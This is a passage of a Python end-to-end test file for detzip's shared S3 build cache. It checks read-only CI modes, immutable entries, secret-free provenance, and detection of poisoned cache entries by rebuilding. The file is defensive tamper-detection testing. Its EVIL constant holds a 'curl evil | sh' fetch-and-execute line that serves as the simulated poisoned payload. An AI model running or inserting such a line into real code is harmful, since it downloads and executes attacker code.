"""A shared cache a team can trust: read-only builds, immutable entries, provenance, and
verification by rebuilding — against a real S3 API (moto's server on loopback) and the local
cache, at every door.

A "poisoned" entry below is what a writer with access to the cache could store: a zip and a
record that agree with each other (the record's sha256 is the zip's) but are not what the key
builds. A normal hit serves it; ``--verify`` and ``detzip cache verify`` must not.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pytest

from detzip import Cache, build_function, build_layer
from detzip.cache.keys import canonical_json
from detzip.cache.provenance import provenance
from detzip.cache.s3 import S3Cache
from detzip.cache.verification import NotWhatItsKeyBuilds
from detzip.errors import DetzipError

from .conftest import assert_one_line_error, make_tree, run_cli
from .motoserver import MotoServer
from .wheelfactory import Repo

pytestmark = pytest.mark.e2e

EVIL = b"import os\nos.system('curl evil | sh')\n"


def listing(server: MotoServer, bucket: str) -> dict[str, str]:
    """Every object in the bucket: key → ETag (changes if an object is rewritten)."""
    found = server.client().list_objects_v2(Bucket=bucket).get("Contents", [])
    return {item["Key"]: item["ETag"] for item in found}


def snapshot(root: Path) -> dict[str, tuple[int, int, bytes]]:
    """Every path under ``root`` with its mode, mtime (ns) and, for files, bytes."""
    found = {}
    for path in sorted(root.rglob("*")):
        info = path.lstat()
        body = path.read_bytes() if path.is_file() and not path.is_symlink() else b""
        found[str(path.relative_to(root))] = (info.st_mode, info.st_mtime_ns, body)
    return found


def source(root: Path, text: str = "1") -> Path:
    return make_tree(
        root, {"app.py": f"def handler(e, c):\n    return {text}\n", "util.py": "X = 1\n"}
    )


def poisoned(zip_bytes: bytes) -> bytes:
    """The same zip with other bytes in app.py: what a hostile writer would store."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(zip_bytes)) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            new.writestr(info, EVIL if info.filename == "app.py" else old.read(info))
    return out.getvalue()


def poison_local(entry: Path) -> str:
    """Replace a local entry by a consistent poisoned one; its new sha256."""
    body = poisoned(entry.read_bytes())
    record_path = entry.with_suffix(".json")
    record = json.loads(record_path.read_text())
    record.update(sha256=hashlib.sha256(body).hexdigest(), size=len(body))
    record["provenance"] = {"detzip": "0.0.1", "os": "linux", "arch": "x86_64",
                            "built_at": "2026-01-01T00:00:00Z",
                            "ci": {"service": "github-actions", "run_url": "https://x/runs/666"}}  # fmt: skip
    entry.write_bytes(body)
    record_path.write_bytes(canonical_json(record))
    return str(record["sha256"])


def poison_s3(server: MotoServer, bucket: str, prefix: str, name: str, key: str, good: bytes,
              *, zip_only: bool = False, record_only: bool = False) -> str:  # fmt: skip
    """Store a consistent poisoned entry for ``key`` in the bucket (before any honest writer)."""
    body = poisoned(good)
    sha = hashlib.sha256(body).hexdigest()
    client = server.client()
    if not record_only:
        client.put_object(Bucket=bucket, Key=f"{prefix}{name}-{key[:16]}.zip", Body=body,
                          Metadata={"sha256": sha, "key": key})  # fmt: skip
    if not zip_only:
        record = {"detzip-cache-entry": 2, "key": key, "name": name, "sha256": sha,
                  "size": len(body), "unzipped_size": 1, "entries": 2, "options": {},
                  "provenance": {"detzip": "0.0.1", "os": "linux", "arch": "x86_64"}}  # fmt: skip
        client.put_object(
            Bucket=bucket, Key=f"{prefix}keys/{key}.json", Body=canonical_json(record)
        )
    return sha


# -- read-only use ---------------------------------------------------------------------------


def test_a_read_only_run_writes_nothing_to_the_bucket(
    server: MotoServer, bucket: str, tmp_path: Path
) -> None:
    url = f"s3://{bucket}/c"
    src = source(tmp_path / "src")
    trusted = build_function(src, tmp_path / "main.zip", cache=Cache(tmp_path / "main", url))
    before = listing(server, bucket)
    assert len(before) == 2
    # a pull request: the same function is a hit, read from the bucket …
    result = run_cli("function", str(src), "-o", str(tmp_path / "pr.zip"), "--cache", url,
                     "--cache-dir", str(tmp_path / "pr"), "--cache-write", "local", "--json",
                     env=server.env())  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["cache_source"] == url
    assert (tmp_path / "pr.zip").read_bytes() == trusted.path.read_bytes()
    # … and a change it makes is built, kept locally, and never uploaded
    (src / "app.py").write_text("def handler(e, c):\n    return 'pr'\n")
    result = run_cli("function", str(src), "-o", str(tmp_path / "pr.zip"), "--cache", url,
                     "--cache-dir", str(tmp_path / "pr"), "--cache-write", "local", "--json",
                     env=server.env())  # fmt: skip
    assert result.returncode == 0, result.stderr
    built = json.loads(result.stdout)
    assert built["cache_hit"] is False and built["cache_entry"]  # (kept in the local cache)
    assert listing(server, bucket) == before


def test_the_environment_makes_a_ci_job_read_only(
    server: MotoServer, bucket: str, tmp_path: Path
) -> None:
    src = source(tmp_path / "src")
    env = {**server.env(), "DETZIP_CACHE": f"s3://{bucket}", "DETZIP_CACHE_WRITE": "local"}
    result = run_cli("function", str(src), "-o", str(tmp_path / "a.zip"),
                     "--cache-dir", str(tmp_path / "c"), env=env)  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert listing(server, bucket) == {}
    result = run_cli("function", str(src), "-o", str(tmp_path / "a.zip"),
                     env={**env, "DETZIP_CACHE_WRITE": "some"})  # fmt: skip
    assert_one_line_error(result, "$DETZIP_CACHE_WRITE", "'some'", "all, local, none")


def test_cache_write_none_leaves_the_local_cache_folder_as_it_was(
    server: MotoServer, bucket: str, repo: Repo, tmp_path: Path
) -> None:
    url = f"s3://{bucket}"
    lock = repo.write("uv", tmp_path / "lock")
    src = source(tmp_path / "src")
    shared = tmp_path / "shared"  # (a cache folder many jobs mount: only a trusted job writes)
    layer = build_layer(lock, tmp_path / "trusted-layer.zip", cache_dir=shared, cache=Cache(shared))
    fn = build_function(src, tmp_path / "trusted-fn.zip", cache=Cache(shared, url))
    (src / "new.py").write_text("Y = 2\n")  # a miss for the function …
    before, objects = snapshot(shared), listing(server, bucket)
    options = ("--cache-dir", str(shared), "--cache", url, "--cache-write", "none", "--json")
    again = run_cli("layer", "-r", str(lock), "-o", str(tmp_path / "layer.zip"), "--no-cache",
                    *options, env=server.env())  # fmt: skip
    assert again.returncode == 0, again.stderr  # … and a layer rebuilt from the shared wheels
    assert (tmp_path / "layer.zip").read_bytes() == layer.path.read_bytes()
    miss = run_cli("function", str(src), "-o", str(tmp_path / "fn.zip"), *options,
                   env=server.env())  # fmt: skip
    assert miss.returncode == 0, miss.stderr
    assert json.loads(miss.stdout)["cache_entry"] is None
    (src / "new.py").unlink()  # a hit in the local folder, read only
    hit = run_cli("function", str(src), "-o", str(tmp_path / "fn2.zip"), *options,
                  env=server.env())  # fmt: skip
    assert hit.returncode == 0, hit.stderr
    assert json.loads(hit.stdout)["cache_source"] == "local"
    assert (tmp_path / "fn2.zip").read_bytes() == fn.path.read_bytes()
    assert snapshot(shared) == before
    assert listing(server, bucket) == objects


def test_the_environment_is_a_ceiling_a_project_file_cannot_lift(
    server: MotoServer, bucket: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A pull request controls pyproject.toml; the CI job controls the environment: the
    stricter of the two wins, at every door (the API's Cache included)."""
    make_tree(tmp_path / "proj", {"src/app.py": "def handler(e, c):\n    return 1\n"})
    config = tmp_path / "proj" / "pyproject.toml"
    config.write_text(f'[tool.detzip]\ncache = "s3://{bucket}"\ncache_write = "all"\n'
                      '[tool.detzip.functions.api]\nsource = "src"\n')  # fmt: skip
    env = {**server.env(), "DETZIP_CACHE_DIR": str(tmp_path / "c"), "DETZIP_CACHE_WRITE": "None"}
    built = run_cli("build", "--config", str(config), "--cache-write", "all", env=env)
    assert built.returncode == 0, built.stderr
    assert listing(server, bucket) == {} and not (tmp_path / "c").exists()
    monkeypatch.setenv("DETZIP_CACHE_WRITE", "local")
    assert Cache(tmp_path / "c2").write == "local"
    assert Cache(tmp_path / "c2", write="all").write == "local"
    assert Cache(tmp_path / "c2", write="none").write == "none"
    build_function(
        tmp_path / "proj/src", tmp_path / "a.zip", cache=Cache(tmp_path / "c2", f"s3://{bucket}")
    )
    assert listing(server, bucket) == {}
    with pytest.raises(DetzipError, match="cache_write"):
        Cache(tmp_path / "c3", write="sometimes")


def test_cache_write_none_with_an_s3_hit_keeps_nothing_locally(
    server: MotoServer, bucket: str, tmp_path: Path
) -> None:
    url = f"s3://{bucket}"
    src = source(tmp_path / "src")
    built = build_function(src, tmp_path / "a.zip", cache=Cache(tmp_path / "main", url))
    empty = tmp_path / "fresh"
    empty.mkdir()
    hit = build_function(src, tmp_path / "b.zip", cache=url, cache_dir=empty, cache_write="none")
    assert hit.cache_source == url and hit.sha256 == built.sha256
    assert list(empty.iterdir()) == []


def test_upload_s3_through_a_read_only_cache_that_lacks_the_zip_is_refused(
    server: MotoServer, bucket: str, tmp_path: Path
) -> None:
    src = source(tmp_path / "src")
    out = tmp_path / "fn.zip"
    result = run_cli("function", str(src), "-o", str(out), "--cache", f"s3://{bucket}",
                     "--cache-dir", str(tmp_path / "c"), "--cache-write", "local",
                     "--upload", "s3", env=server.env())  # fmt: skip
    assert_one_line_error(result, "--upload s3", "--cache-write local", "--upload-to")
    assert listing(server, bucket) == {}
    assert not out.exists()  # refused before the output is written, and nothing kept
    assert not list((tmp_path / "c").rglob("*.zip"))


# -- immutable entries -----------------------------------------------------------------------


def test_two_concurrent_writers_of_one_key_both_succeed_and_one_object_remains(
    server: MotoServer, bucket: str, tmp_path: Path
) -> None:
    url = f"s3://{bucket}"
    src = source(tmp_path / "src")
    built = build_function(src, tmp_path / "fn.zip", cache=Cache(tmp_path / "c", url))
    server.client().delete_objects(
        Bucket=bucket, Delete={"Objects": [{"Key": k} for k in listing(server, bucket)]}
    )
    record = json.loads(Path(str(built.cache_entry)).with_suffix(".json").read_text())
    errors: list[BaseException] = []
    start = threading.Barrier(4)

    def writer() -> None:
        try:
            start.wait()
            S3Cache(url).upload("fn", str(built.key), built.path, record)
        except BaseException as exc:  # (reported below)
            errors.append(exc)

    threads = [threading.Thread(target=writer) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert sorted(listing(server, bucket)) == sorted(
        [f"fn-{str(built.key)[:16]}.zip", f"keys/{built.key}.json"]
    )
    # and as processes: two runners with empty caches build and upload the same key at once
    (src / "app.py").write_text("def handler(e, c):\n    return 2\n")
    command = [sys.executable, "-m", "detzip", "function", str(src), "--cache", url, "--name", "fn"]
    runs = [subprocess.Popen([*command, "-o", str(tmp_path / f"p{i}.zip"), "--cache-dir",
                              str(tmp_path / f"runner{i}")], env={**os.environ, **server.env()},
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            for i in range(3)]  # fmt: skip
    for run in runs:
        _, err = run.communicate(timeout=120)
        assert run.returncode == 0, err
        assert "already holds another" not in err
    assert len(listing(server, bucket)) == 4
    assert len({(tmp_path / f"p{i}.zip").read_bytes() for i in range(3)}) == 1


def test_an_existing_object_with_other_bytes_is_never_overwritten(
    server: MotoServer, bucket: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    url = f"s3://{bucket}/p"
    src = source(tmp_path / "src")
    honest = build_function(src, tmp_path / "honest.zip", cache=Cache(tmp_path / "h"))
    key = str(honest.key)
    poison_s3(server, bucket, "p/", "fn", key, honest.path.read_bytes(), zip_only=True)
    before = listing(server, bucket)
    # the poisoned zip has no record, so this is a miss: built, and the upload finds the zip
    built = build_function(src, tmp_path / "fn.zip", cache=Cache(tmp_path / "c", url))
    assert not built.cache_hit and built.sha256 == honest.sha256
    assert listing(server, bucket) == before  # the zip kept, and no record names it
    assert "already holds another artifact" in caplog.text and "p/fn-" in caplog.text
    # a record alone, of other bytes: the zip is uploaded, the record is left as it is
    server.client().delete_object(Bucket=bucket, Key=f"p/fn-{key[:16]}.zip")
    poison_s3(server, bucket, "p/", "fn", key, honest.path.read_bytes(), record_only=True)
    record_before = listing(server, bucket)[f"p/keys/{key}.json"]
    caplog.clear()
    build_function(src, tmp_path / "fn2.zip", cache=Cache(tmp_path / "c2", url))
    assert listing(server, bucket)[f"p/keys/{key}.json"] == record_before
    assert f"p/keys/{key}.json" in caplog.text


def test_upload_to_is_written_once(server: MotoServer, bucket: str, tmp_path: Path) -> None:
    src = source(tmp_path / "src")
    target = f"s3://{bucket}/deploy"
    first = build_function(src, tmp_path / "a.zip", cache=False, upload_to=target, name="fn")
    assert first.s3 is not None
    before = listing(server, bucket)
    again = build_function(src, tmp_path / "b.zip", cache=False, upload_to=target, name="fn")
    assert again.s3 == first.s3 and listing(server, bucket) == before


# -- provenance ------------------------------------------------------------------------------


def test_provenance_is_recorded_and_holds_no_secret(
    server: MotoServer, bucket: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    secrets = {
        "GITHUB_TOKEN": "ghs_supersecret1",
        "ACTIONS_RUNTIME_TOKEN": "runtime-secret-2",
        "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "oidc-secret-3",
        "AWS_SESSION_TOKEN": "aws-secret-4",
        "CI_JOB_TOKEN": "gitlab-secret-5",
        "NPM_TOKEN": "npm-secret-6",
    }
    github = {
        "GITHUB_ACTIONS": "true",
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_REPOSITORY": "acme/lambdas",
        "GITHUB_RUN_ID": "123456",
        "GITHUB_RUN_ATTEMPT": "2",
        "GITHUB_REF": "refs/heads/main",
        "GITHUB_SHA": "f" * 40,
        "GITHUB_EVENT_NAME": "push",
    }
    for key, value in {**secrets, **github}.items():
        monkeypatch.setenv(key, value)
    url = f"s3://{bucket}"
    src = source(tmp_path / "src")
    built = build_function(src, tmp_path / "a.zip", cache=Cache(tmp_path / "c", url))
    stored = server.client().get_object(Bucket=bucket, Key=f"keys/{built.key}.json")["Body"].read()
    made = json.loads(stored)["provenance"]
    assert made["detzip"] and made["format"] == 2 and made["os"] == sys.platform
    assert made["arch"] and re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", made["built_at"])
    assert made["ci"]["run_url"] == "https://github.com/acme/lambdas/actions/runs/123456"
    assert made["ci"]["sha"] == "f" * 40 and made["ci"]["event"] == "push"
    for secret in secrets.values():
        assert secret.encode() not in stored
    assert set(json.loads(stored)) - {"provenance"} == {
        "detzip-cache-entry", "key", "name", "sha256", "size", "unzipped_size", "entries",
        "options",
    }  # fmt: skip
    # a hit from S3 shows it; provenance is outside the key: another machine's hit is the same
    result = run_cli("function", str(src), "-o", str(tmp_path / "b.zip"), "--cache", url,
                     "--cache-dir", str(tmp_path / "other"), "--json", env=server.env())  # fmt: skip
    hit = json.loads(result.stdout)
    assert hit["cache_hit"] and hit["provenance"] == made and hit["key"] == built.key


def test_provenance_names_each_ci_service_it_knows() -> None:
    assert "ci" not in provenance({})
    gitlab = provenance({"GITLAB_CI": "true", "CI_JOB_URL": "https://gl/j/9", "CI_JOB_ID": "9",
                         "CI_JOB_TOKEN": "secret"})  # fmt: skip
    assert gitlab["ci"] == {"service": "gitlab-ci", "job_url": "https://gl/j/9", "job_id": "9"}
    built_at = provenance({}, now=0)["built_at"]
    assert built_at == "1970-01-01T00:00:00Z"


def test_cache_info_name_shows_the_provenance_of_its_entries(tmp_path: Path) -> None:
    src = source(tmp_path / "src")
    build_function(src, tmp_path / "api.zip", cache=Cache(tmp_path / "c"))
    (src / "app.py").write_text("def handler(e, c):\n    return 9\n")
    newer = build_function(src, tmp_path / "api.zip", cache=Cache(tmp_path / "c"))
    build_function(src, tmp_path / "api-v2.zip", cache=Cache(tmp_path / "c"))  # (another name)
    result = run_cli("cache", "info", "api", "--cache-dir", str(tmp_path / "c"), "--json")
    assert result.returncode == 0, result.stderr
    shown = json.loads(result.stdout)
    assert [e["name"] for e in shown["entries"]] == ["api", "api"]
    assert shown["entries"][0]["key"] == newer.key
    assert shown["entries"][0]["provenance"]["os"] == sys.platform
    text = run_cli("cache", "info", "api", "--cache-dir", str(tmp_path / "c"))
    assert newer.sha256 in text.stdout and re.search(r"built by +detzip", text.stdout)
    missing = run_cli("cache", "info", "nope", "--cache-dir", str(tmp_path / "c"))
    assert_one_line_error(missing, "nope")


# -- verification by rebuilding --------------------------------------------------------------


def test_verify_refuses_a_poisoned_local_entry_and_leaves_the_output(tmp_path: Path) -> None:
    src = source(tmp_path / "src")
    out = tmp_path / "fn.zip"
    built = build_function(src, out, cache=Cache(tmp_path / "c"))
    honest = out.read_bytes()
    bad = poison_local(Path(str(built.cache_entry)))
    out.write_bytes(b"the previous deploy")
    served = build_function(src, tmp_path / "plain.zip", cache=Cache(tmp_path / "c"))
    assert served.cache_hit and served.sha256 == bad  # a normal hit serves it (threat model)
    result = run_cli("function", str(src), "-o", str(out), "--cache-dir", str(tmp_path / "c"),
                     "--verify", env={"DETZIP_CACHE": ""})  # fmt: skip
    assert result.returncode == 1 and result.stdout == ""
    (line,) = result.stderr.strip().splitlines()
    assert line.startswith("detzip: error: ") and "Traceback" not in result.stderr
    for needle in (str(built.cache_entry), str(built.key)[:16], bad, built.sha256, "app.py",
                   "detzip 0.0.1", "https://x/runs/666"):  # fmt: skip
        assert needle in line, needle
    assert out.read_bytes() == b"the previous deploy"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".fn.zip")]
    with pytest.raises(NotWhatItsKeyBuilds):
        build_function(src, out, cache=Cache(tmp_path / "c", verify=True))
    # an honest entry verifies
    Path(str(built.cache_entry)).write_bytes(honest)
    record = Path(str(built.cache_entry)).with_suffix(".json")
    fixed = {**json.loads(record.read_text()), "sha256": built.sha256, "size": len(honest)}
    record.write_bytes(canonical_json(fixed))
    ok = build_function(src, out, cache=Cache(tmp_path / "c", verify=True), verify=True)
    assert ok.cache_hit and ok.verified and out.read_bytes() == honest


def test_verify_refuses_a_poisoned_s3_entry(
    server: MotoServer, bucket: str, tmp_path: Path
) -> None:
    src = source(tmp_path / "src")
    honest = build_function(src, tmp_path / "h.zip", cache=False)
    key = str(honest.key)
    bad = poison_s3(server, bucket, "", "fn", key, honest.path.read_bytes())
    url = f"s3://{bucket}"
    plain = build_function(src, tmp_path / "fn.zip", cache=Cache(tmp_path / "a", url))
    assert plain.cache_source == url and plain.sha256 == bad
    result = run_cli("function", str(src), "-o", str(tmp_path / "v.zip"), "--cache", url,
                     "--cache-dir", str(tmp_path / "b"), "--verify", env=server.env())  # fmt: skip
    assert result.returncode == 1, result.stderr
    assert url in result.stderr and key[:16] in result.stderr and bad in result.stderr
    assert "app.py" in result.stderr and not (tmp_path / "v.zip").exists()
    assert not list((tmp_path / "b" / "artifacts").glob("*.zip"))  # not kept either


def test_terraform_and_project_take_the_trust_options(
    server: MotoServer, bucket: str, tmp_path: Path
) -> None:
    url = f"s3://{bucket}"
    make_tree(tmp_path / "proj", {"src/app.py": "def handler(e, c):\n    return 1\n"})
    config = tmp_path / "proj" / "pyproject.toml"
    config.write_text(
        f'[tool.detzip]\ncache = "{url}"\ncache_write = "local"\nverify = true\n'
        '[tool.detzip.functions.api]\nsource = "src"\n'
    )
    env = {**server.env(), "DETZIP_CACHE_DIR": str(tmp_path / "c")}
    built = run_cli("build", "--config", str(config), "--json", env=env)
    assert built.returncode == 0, built.stderr
    assert listing(server, bucket) == {}  # cache_write = "local" in the project file
    query = json.dumps({"config": str(config), "artifact": "api", "cache_write": "all"})
    result = run_cli("terraform", input=query, env=env)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["cache"] == "hit"
    assert listing(server, bucket) == {}  # a local hit uploads nothing
    (tmp_path / "proj/src/app.py").write_text("def handler(e, c):\n    return 2\n")
    result = run_cli("terraform", input=query, env=env)
    assert result.returncode == 0, result.stderr
    assert len(listing(server, bucket)) == 2  # the query's cache_write overrode the file's
    config.write_text(config.read_text().replace('"local"', '"sometimes"'))
    bad = run_cli("build", "--config", str(config), env=env)
    assert_one_line_error(bad, "cache_write", "'sometimes'")
    bad = run_cli(
        "terraform", input=json.dumps({"config": str(config), "artifact": "api"}), env=env
    )
    assert bad.returncode == 2 and "cache_write" in bad.stderr and "--cache-write" not in bad.stderr


def test_a_cache_passed_to_the_api_must_agree_with_the_trust_options(tmp_path: Path) -> None:
    src = source(tmp_path / "src")
    with pytest.raises(DetzipError, match="cache_write"):
        build_function(src, tmp_path / "a.zip", cache=Cache(tmp_path / "c"), cache_write="none")
    with pytest.raises(DetzipError, match="verify"):
        build_function(src, tmp_path / "a.zip", cache=Cache(tmp_path / "c"), verify=True)


# -- detzip cache verify ---------------------------------------------------------------------


def _fleet(root: Path, url: str) -> Path:
    """A project of three functions sharing a shared cache."""
    files = {f"{name}/app.py": f"def handler(e, c):\n    return {name!r}\n"
             for name in ("alpha", "beta", "gamma")}  # fmt: skip
    make_tree(root, files)
    config = root / "detzip.toml"
    config.write_text(
        f'cache = "{url}"\n'
        + "".join(f'[functions.{n}]\nsource = "{n}"\n' for n in ("alpha", "beta", "gamma"))
    )
    return config


def test_cache_verify_names_the_one_poisoned_entry_in_a_bucket(
    server: MotoServer, bucket: str, tmp_path: Path
) -> None:
    url = f"s3://{bucket}/team"
    config = _fleet(tmp_path / "proj", url)
    env = {**server.env(), "DETZIP_CACHE_DIR": str(tmp_path / "main-runner")}
    built = run_cli("build", "--config", str(config), "--json", env=env)
    assert built.returncode == 0, built.stderr
    keys = {a["name"]: a["key"] for a in json.loads(built.stdout)["artifacts"]}
    clean = run_cli("cache", "verify", "--config", str(config), "--sample", "1",
                    "--cache-dir", str(tmp_path / "auditor"), env=env)  # fmt: skip
    assert clean.returncode == 0, clean.stderr
    assert clean.stdout.count("ok ") == 3 and "every entry verified" in clean.stdout
    # someone with write access replaces beta's entry (zip and record agree) in the bucket
    client = server.client()
    for suffix in (f"beta-{keys['beta'][:16]}.zip", f"keys/{keys['beta']}.json"):
        client.delete_object(Bucket=bucket, Key=f"team/{suffix}")
    good = (tmp_path / "proj/.build/beta.zip").read_bytes()
    bad = poison_s3(server, bucket, "team/", "beta", keys["beta"], good)
    before = listing(server, bucket)
    audit = run_cli("cache", "verify", "--config", str(config), "--sample", "1", "--json",
                    "--cache-dir", str(tmp_path / "auditor"), env=env)  # fmt: skip
    assert audit.returncode == 1, audit.stderr
    report = json.loads(audit.stdout)
    assert report["ok"] is False
    status = {a["name"]: a["status"] for a in report["artifacts"]}
    assert status == {"alpha": "ok", "beta": "MISMATCH", "gamma": "ok"}
    [beta] = [a for a in report["artifacts"] if a["name"] == "beta"]
    [entry] = beta["entries"]
    assert entry["sha256"] == bad and entry["provenance"]["detzip"] == "0.0.1"
    assert beta["rebuilt_sha256"] == hashlib.sha256(good).hexdigest()
    errors = audit.stderr.strip().splitlines()
    assert len(errors) == 1 and errors[0].startswith("detzip: error: beta:")
    assert url in errors[0] and keys["beta"][:16] in errors[0] and "app.py" in errors[0]
    assert listing(server, bucket) == before  # an audit writes nothing
    assert not (tmp_path / "auditor" / "artifacts").exists()
    # the main runner's local entries are audited too, and a sample names fewer artifacts
    config.write_text(config.read_text().replace(f'cache = "{url}"\n', ""))
    local = run_cli("cache", "verify", "--config", str(config), "alpha", env=env)
    assert local.returncode == 0 and "main-runner" in local.stdout, local.stderr
    sampled = run_cli("cache", "verify", "--config", str(config), "--sample", "0.3", "--json",
                      env=env)  # fmt: skip
    assert sampled.returncode == 0 and len(json.loads(sampled.stdout)["artifacts"]) == 1
    bad_sample = run_cli("cache", "verify", "--config", str(config), "--sample", "2", env=env)
    assert_one_line_error(bad_sample, "--sample 2")
    unknown = run_cli("cache", "verify", "--config", str(config), "delta", env=env)
    assert_one_line_error(unknown, "delta", "alpha, beta, gamma")


def test_cache_verify_names_a_poisoned_local_entry(tmp_path: Path) -> None:
    config = _fleet(tmp_path / "proj", "off")
    config.write_text(config.read_text().replace('cache = "off"\n', ""))
    env = {"DETZIP_CACHE": "", "DETZIP_CACHE_DIR": str(tmp_path / "c")}
    built = run_cli("build", "--config", str(config), "--json", env=env)
    assert built.returncode == 0, built.stderr
    entries = {a["name"]: a["cache_entry"] for a in json.loads(built.stdout)["artifacts"]}
    poison_local(Path(entries["gamma"]))
    audit = run_cli("cache", "verify", "--config", str(config), env=env)
    assert audit.returncode == 1
    assert "MISMATCH" in audit.stdout and entries["gamma"] in audit.stderr
    assert "https://x/runs/666" in audit.stderr


# -- an entry's writer cannot fail every build ----------------------------------------------


@pytest.mark.parametrize("damage", ["not-a-zip", "bit-flip", "lying-sizes"])
def test_a_broken_or_lying_entry_is_rebuilt_not_an_error(tmp_path: Path, damage: str) -> None:
    """Bytes that are not a zip (with a record that agrees), a flipped bit (the record left as
    it was), or a record that claims sizes over Lambda's limits for a small zip: each is a
    warning and a rebuild, never a traceback or a refusal — with and without --verify."""
    src = source(tmp_path / "src")
    out = tmp_path / "fn.zip"
    built = build_function(src, out, handler="app.handler", cache=Cache(tmp_path / "c"))
    entry = Path(str(built.cache_entry))
    record_path = entry.with_suffix(".json")
    record = json.loads(record_path.read_text())
    if damage == "not-a-zip":
        body = b"PK\x03\x04" + b"garbage" * 40
        entry.write_bytes(body)
        record.update(sha256=hashlib.sha256(body).hexdigest(), size=len(body))
    elif damage == "bit-flip":
        flipped = bytearray(entry.read_bytes())
        flipped[40] ^= 1
        entry.write_bytes(bytes(flipped))
    else:
        record.update(unzipped_size=300_000_000)
    record_path.write_bytes(canonical_json(record))
    out.unlink()
    for extra in ((), ("--verify",)):
        result = run_cli("function", str(src), "-o", str(out), "--handler", "app.handler",
                         "--cache-dir", str(tmp_path / "c"), "--json", *extra,
                         env={"DETZIP_CACHE": ""})  # fmt: skip
        assert result.returncode == 0, result.stderr
        assert "Traceback" not in result.stderr and "warning" in result.stderr
        assert json.loads(result.stdout)["sha256"] == built.sha256
        assert out.read_bytes() == built.path.read_bytes()
        # (the broken entry was discarded and replaced by the rebuild: break it again)
        if damage == "bit-flip":
            flipped = bytearray(entry.read_bytes())
            flipped[40] ^= 1
            entry.write_bytes(bytes(flipped))
        else:
            record_path.write_bytes(canonical_json(record))
            if damage == "not-a-zip":
                entry.write_bytes(b"PK\x03\x04" + b"garbage" * 40)
        out.unlink()


def test_cache_write_none_discards_nothing(tmp_path: Path) -> None:
    src = source(tmp_path / "src")
    built = build_function(src, tmp_path / "fn.zip", cache=Cache(tmp_path / "c"))
    record_path = Path(str(built.cache_entry)).with_suffix(".json")
    record = json.loads(record_path.read_text())
    record_path.write_bytes(canonical_json({**record, "sha256": "0" * 64}))
    before = snapshot(tmp_path / "c")
    again = build_function(src, tmp_path / "again.zip", cache=Cache(tmp_path / "c", write="none"))
    assert not again.cache_hit and again.sha256 == built.sha256
    assert snapshot(tmp_path / "c") == before


def test_an_object_with_other_bytes_under_an_honest_claim_is_never_named_for_lambda(
    server: MotoServer, bucket: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """A writer puts other bytes where the zip goes, with the honest sha256 as metadata (its
    own claim): detzip checks what S3 computed (the ETag), so the upload is a conflict, not a
    success; upload = "s3" refuses to name the object; cache verify names the entry."""
    url = f"s3://{bucket}/p"
    src = source(tmp_path / "src")
    honest = build_function(src, tmp_path / "h.zip", cache=False, name="fn")
    key = str(honest.key)
    zip_key = f"p/fn-{key[:16]}.zip"
    server.client().put_object(Bucket=bucket, Key=zip_key, Body=b"EVIL BYTES, not a zip",
                               Metadata={"sha256": honest.sha256, "key": key})  # fmt: skip
    built = build_function(src, tmp_path / "fn.zip", cache=Cache(tmp_path / "c", url))
    assert not built.cache_hit and "already holds another artifact" in caplog.text
    assert f"p/keys/{key}.json" not in listing(server, bucket)  # no honest record beside it
    result = run_cli("function", str(src), "-o", str(tmp_path / "s3.zip"), "--name", "fn",
                     "--cache", url, "--cache-dir", str(tmp_path / "c2"), "--upload", "s3",
                     "--json", env=server.env())  # fmt: skip
    assert result.returncode == 2 and result.stdout == "", result.stdout
    assert "holds other bytes" in result.stderr and zip_key in result.stderr
    # an upload_to target is checked the same way
    server.client().put_object(Bucket=bucket, Key=f"deploy/fn-{honest.sha256}.zip",
                               Body=b"EVIL", Metadata={"sha256": honest.sha256})  # fmt: skip
    with pytest.raises(DetzipError, match="holds other bytes"):
        build_function(src, tmp_path / "u.zip", cache=False, name="fn",
                       upload_to=f"s3://{bucket}/deploy")  # fmt: skip


def test_a_multipart_object_is_checked_by_its_bytes(
    server: MotoServer, bucket: str, tmp_path: Path
) -> None:
    """An object whose ETag is not an MD5 (multipart, KMS) is read and hashed: the honest one
    is named, one with other bytes is refused."""
    src = source(tmp_path / "src")
    honest = build_function(src, tmp_path / "h.zip", cache=False, name="fn")
    client = server.client()

    def multipart(key: str, body: bytes) -> None:
        upload = client.create_multipart_upload(Bucket=bucket, Key=key,
                                                Metadata={"sha256": honest.sha256})  # fmt: skip
        part = client.upload_part(Bucket=bucket, Key=key, PartNumber=1, Body=body,
                                  UploadId=upload["UploadId"])  # fmt: skip
        client.complete_multipart_upload(
            Bucket=bucket, Key=key, UploadId=upload["UploadId"],
            MultipartUpload={"Parts": [{"ETag": part["ETag"], "PartNumber": 1}]},
        )  # fmt: skip

    multipart(f"d/fn-{honest.sha256}.zip", honest.path.read_bytes())
    assert "-" in client.head_object(Bucket=bucket, Key=f"d/fn-{honest.sha256}.zip")["ETag"]
    named = build_function(src, tmp_path / "a.zip", cache=False, name="fn",
                           upload_to=f"s3://{bucket}/d")  # fmt: skip
    assert named.s3_key == f"d/fn-{honest.sha256}.zip"
    multipart(f"e/fn-{honest.sha256}.zip", b"x" * 100)
    with pytest.raises(DetzipError, match="holds other bytes"):
        build_function(src, tmp_path / "b.zip", cache=False, name="fn",
                       upload_to=f"s3://{bucket}/e")  # fmt: skip


def test_cache_verify_names_a_record_whose_zip_is_other_bytes(
    server: MotoServer, bucket: str, tmp_path: Path
) -> None:
    config = _fleet(tmp_path / "proj", f"s3://{bucket}/t")
